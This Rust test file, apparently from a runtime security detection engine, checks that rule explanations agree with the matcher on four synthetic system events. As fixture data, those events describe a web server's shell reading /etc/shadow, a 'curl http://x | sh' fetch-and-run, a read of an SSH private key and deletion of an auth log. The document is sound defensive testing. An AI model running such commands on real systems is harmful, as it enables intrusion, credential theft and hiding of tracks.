//! Explanations of our own rules beside what the matcher says of them.

use std::{fs, path::Path, sync::Arc};

use yagura_detect::{Engine, EngineOptions, Explainer, RuleIndex, RuleMatching, SourceFile, case, falco};

#[test]
fn an_explanation_says_what_the_matcher_says() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/rules");
    let mut paths: Vec<_> =
        fs::read_dir(folder).expect("content/rules is there").flatten().map(|entry| entry.path()).collect();
    paths.retain(|path| path.extension().is_some_and(|extension| extension == "yaml"));
    paths.retain(|path| !path.to_string_lossy().ends_with(".cases.yaml"));
    paths.sort();
    let files: Vec<_> = paths
        .iter()
        .map(|path| SourceFile::new("r.yaml", fs::read_to_string(path).expect("a rule file")))
        .collect();
    let loaded = falco::load(&files, &falco::LoadOptions::default());
    let options = EngineOptions { rule_matching: RuleMatching::All, ..EngineOptions::default() };
    let engine = Arc::new(Engine::compile(&loaded.rules, &options));
    let (mut explainer, mut matcher) = (Explainer::new(&engine), engine.matcher());
    let mut matches = 0;
    for text in [
        "{kind: openat, process: {name: bash, parent: {name: nginx}}, fd: {name: /etc/shadow, number: 3}, args: {flags: O_RDWR}}",
        "{kind: execve, process: {name: sh, args: ['-c', 'curl http://x | sh'], parent: {name: nginx}}}",
        "{kind: openat, number: 7, process: {name: cat}, fd: {name: /root/.ssh/id_rsa, number: 3}, args: {flags: O_RDONLY}}",
        "{kind: unlinkat, process: {name: rm}, args: {name: /var/log/auth.log}, fd: {name: /var/log/auth.log}}",
    ] {
        let event = case::event(text).expect(text);
        let matched = matcher.matches(&event).to_vec();
        matches += matched.len();
        for index in (0..).map(RuleIndex).take(engine.rules().len()) {
            let is_match = matched.contains(&index) || !engine.is_enabled(index);
            let explained = explainer.explain(index, &event);
            assert!(explained.holds == is_match || !engine.is_enabled(index), "{}", engine.rule(index).name);
        }
    }
    assert!(matches > 0 && engine.rules().len() > 100);
}
